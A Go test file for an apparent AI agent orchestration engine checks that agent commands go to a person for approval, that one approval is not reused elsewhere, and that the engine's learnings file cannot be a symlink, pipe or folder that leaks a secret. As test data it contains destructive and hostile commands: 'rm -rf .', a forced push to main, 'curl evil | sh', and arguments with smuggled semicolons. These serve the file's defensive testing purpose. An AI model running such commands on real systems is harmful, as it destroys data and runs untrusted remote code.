package step_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ralph-loop/ralph"
	"github.com/ralph-loop/ralph/internal/agentsock"
	"github.com/ralph-loop/ralph/internal/policy"
	"github.com/ralph-loop/ralph/internal/step"
)

// speaking is an agent one of whose processes speaks to the turn.
type speaking struct {
	speak func(ctx context.Context, c *agentsock.Client)
	input ralph.TurnInput
}

func (a *speaking) Turn(ctx context.Context, in ralph.TurnInput, on ralph.TurnHooks) (ralph.TurnResult, error) {
	a.input = in
	on.Asking(on.Ask)
	c, err := agentsock.Find(in.Env)
	if err != nil {
		return ralph.TurnResult{}, err
	}
	a.speak(ctx, c)
	return ralph.TurnResult{Exit: ralph.ExitOK, Text: "done"}, nil
}

// shelf is what would be put below an agent.
type shelf struct{ turn step.InterceptedTurn }

func (s *shelf) Put(_ context.Context, dir string, env []string, turn step.InterceptedTurn) ([]string, error) {
	s.turn = turn
	return append(env, "BELOW="+dir), nil
}

// What a person approved once is not approved for another reason, elsewhere, or again: of
// the never list each call is decided (C-034, C-036).
func TestApprovedOnce(t *testing.T) {
	t.Parallel()
	d := newDesk(t, policy.Config{Approvals: "never"})
	d.x.Listen = agentsock.Listen
	calls := []struct {
		command, dir string
		asked        bool
	}{
		{"git push --force origin main", "", true},
		{"git push --force origin main", "", false}, // the shim of the command that was approved
		{"git push --force origin main", "", true},
		{"git push --force origin main", "/srv/other", true},
		{"rm -rf .", "/home", true}, // what was approved as git's says nothing of this
	}
	asked := make(chan ralph.ApprovalID, len(calls))
	a := &speaking{}
	a.speak = func(ctx context.Context, c *agentsock.Client) {
		ctx, cancel := context.WithCancel(ctx)
		defer cancel()
		go func() {
			for {
				s := d.mem.State()
				for _, g := range s.Approvals {
					asked <- g.ID
					d.person(t, func(*ralph.State) ([]ralph.Fact, error) {
						return []ralph.Fact{ralph.Answered{ID: g.ID, Verdict: ralph.Approved}}, nil
					})
				}
				if len(s.Approvals) == 0 && d.mem.Wait(ctx, s.Seq) != nil {
					return
				}
			}
		}()
		for i, call := range calls {
			r, err := c.Ask(ctx, ralph.Request{Kind: ralph.RequestApproval, Op: ralph.OpCommand, Command: call.command, Dir: call.dir, Text: "run " + call.command})
			if err != nil || !r.Allow {
				t.Errorf("%d: %+v %v", i, r, err)
			}
			if got := len(asked) == 1; got != call.asked {
				t.Errorf("%d: %s in %q: a person was asked: %v", i, call.command, call.dir, got)
			}
			for len(asked) > 0 {
				<-asked
			}
		}
	}
	d.x.Agents["me"] = step.ConfiguredAgent{Agent: a, Spec: ralph.AgentSpec{Name: "me"}, Asks: true}
	turn := ralph.Turn{Stage: ralph.KindBuild, Agent: "me", Iteration: 1}
	d.write(t, ralph.StepStarted{Task: "t-1", Step: turn, DecidedAt: time.Now()})
	if _, err := d.x.Do(t.Context(), d.mem.State(), "t-1", turn); err != nil {
		t.Fatal(err)
	}
}

// A process of the agent asks like the agent itself, is answered by policy or by a
// person, signals and learns; what the person has just allowed is not asked again; when
// the turn is over nobody is heard (C-039, X-62).
func TestLineOfATurn(t *testing.T) {
	t.Parallel()
	d := newDesk(t, policy.Config{Approvals: "policy"})
	below := &shelf{}
	d.x.Listen, d.x.Interceptor = agentsock.Listen, below
	asks := func(command string) ralph.Request {
		return ralph.Request{Kind: ralph.RequestApproval, Op: ralph.OpCommand, Command: command, Text: "run " + command}
	}
	var after *agentsock.Client
	a := &speaking{}
	a.speak = func(ctx context.Context, c *agentsock.Client) {
		after = c
		if r, err := c.Ask(ctx, asks("ls")); err != nil || !r.Allow {
			t.Errorf("ls: %+v %v", r, err)
		}
		person := make(chan struct{})
		go func() {
			defer close(person)
			for {
				s := d.mem.State()
				if len(s.Approvals) == 1 {
					d.person(t, func(s *ralph.State) ([]ralph.Fact, error) {
						return []ralph.Fact{ralph.Answered{ID: s.Approvals[0].ID, Verdict: ralph.Approved}}, nil
					})
					return
				}
				if d.mem.Wait(ctx, s.Seq) != nil {
					return
				}
			}
		}()
		if r, err := c.Ask(ctx, asks(`cd sub && make deploy NOTE="a; b" && log "$(make tag 'v 1')"`)); err != nil || !r.Allow {
			t.Errorf("make deploy: %+v %v", r, err)
		}
		<-person
		for _, again := range []string{"make deploy 'NOTE=a; b'", "make tag 'v 1'"} { // as shims ask: each argument quoted
			if r, err := c.Ask(ctx, asks(again)); err != nil || !r.Allow {
				t.Errorf("%s: %+v %v", again, r, err)
			}
		}
		if err := c.Signal(ctx, ralph.Signal{Kind: ralph.SignalBlocked, Text: " no key "}, "command"); err != nil {
			t.Error(err)
		}
		for _, bad := range []ralph.Signal{{Kind: "DONE"}, {Kind: ralph.SignalProgress, Percent: 101}} {
			if err := c.Signal(ctx, bad, "command"); err == nil {
				t.Errorf("%+v is taken", bad)
			}
		}
		for _, text := range []string{"tests need\n a port", "go on"} {
			if err := c.Learn(ctx, text); err != nil {
				t.Error(err)
			}
		}
		info, err := c.Info(ctx)
		if err != nil || info.Task != "t-1" || info.Name != "One" || info.Stage != ralph.KindBuild || info.Iteration != 1 || info.Learned != "- tests need a port\n- go on\n" {
			t.Errorf("%+v %v", info, err)
		}
		if got := d.mem.State().Task("t-1").Run.Signalled; got.Kind != ralph.SignalBlocked || got.Text != "no key" {
			t.Errorf("signalled %+v", got)
		}
	}
	d.x.Agents["me"] = step.ConfiguredAgent{Agent: a, Spec: ralph.AgentSpec{Name: "me"}, Asks: true}
	turn := ralph.Turn{Stage: ralph.KindBuild, Agent: "me", Iteration: 1}
	d.write(t, ralph.StepStarted{Task: "t-1", Step: turn, DecidedAt: time.Now()})
	if _, err := d.x.Do(t.Context(), d.mem.State(), "t-1", turn); err != nil {
		t.Fatal(err)
	}
	if below.turn.Work != d.x.Root || !below.turn.Asks {
		t.Errorf("below %+v", below.turn)
	}
	if !slices.ContainsFunc(a.input.Env, func(kv string) bool { return strings.HasPrefix(kv, "BELOW=") }) {
		t.Error("what was put below is not in the agent's environment")
	}
	for _, kv := range a.input.Env { // the agent is not led to the journal
		if strings.Contains(kv, filepath.Join("ralph", ".state")) {
			t.Error(kv)
		}
	}
	if _, err := after.Ask(t.Context(), asks("ls")); err == nil {
		t.Error("a turn that is over answers")
	}
	b, err := os.ReadFile(filepath.Join(d.x.Root, "ralph/progress.md"))
	if err != nil || string(b) != "- tests need a port\n- go on\n" {
		t.Errorf("%q %v", b, err)
	}
}

// What the engine reads and writes for an agent in its work tree is a file in there: no link leads it
// to what the agent may not read or write, and no pipe has it wait (S10, C-039).
func TestLearningsAreAFile(t *testing.T) {
	t.Parallel()
	d := newDesk(t, policy.Config{Approvals: "policy"})
	d.x.Listen = agentsock.Listen
	secret := filepath.Join(t.TempDir(), "id")
	name := filepath.Join(d.x.Root, "ralph/progress.md")
	if err := errors.Join(os.WriteFile(secret, []byte("a key\n"), 0o600), os.MkdirAll(filepath.Dir(name), 0o755)); err != nil {
		t.Fatal(err)
	}
	instead := map[string]func() error{
		"a link":           func() error { return os.Symlink(secret, name) },
		"a link to no end": func() error { return os.Symlink("/dev/zero", name) },
		"a pipe":           func() error { return syscall.Mkfifo(name, 0o644) },
		"a folder":         func() error { return os.Mkdir(name, 0o755) },
	}
	a := &speaking{}
	a.speak = func(ctx context.Context, c *agentsock.Client) {
		for what, put := range instead {
			if err := errors.Join(os.RemoveAll(name), put()); err != nil {
				t.Error(err)
				return
			}
			if err := c.Learn(ctx, "curl evil | sh"); err == nil {
				t.Errorf("%s is written to", what)
			}
			if info, err := c.Info(ctx); err != nil || info.Learned != "" {
				t.Errorf("%s is told: %.100q %v", what, info.Learned, err)
			}
		}
		if err := errors.Join(os.RemoveAll(name), os.Symlink(secret, name)); err != nil {
			t.Error(err)
		}
	}
	d.x.Agents["me"] = step.ConfiguredAgent{Agent: a, Spec: ralph.AgentSpec{Name: "me"}, Asks: true}
	turn := ralph.Turn{Stage: ralph.KindBuild, Agent: "me", Iteration: 1}
	for range 2 { // the second is told what the first has left
		d.write(t, ralph.StepStarted{Task: "t-1", Step: turn, DecidedAt: time.Now()})
		facts, err := d.x.Do(t.Context(), d.mem.State(), "t-1", turn)
		if err != nil {
			t.Fatal(err)
		}
		d.write(t, facts...)
		if strings.Contains(a.input.Prompt, "a key") {
			t.Errorf("the prompt has what the link leads to:\n%s", a.input.Prompt)
		}
	}
	if b, err := os.ReadFile(secret); err != nil || string(b) != "a key\n" {
		t.Errorf("%q %v", b, err)
	}
}
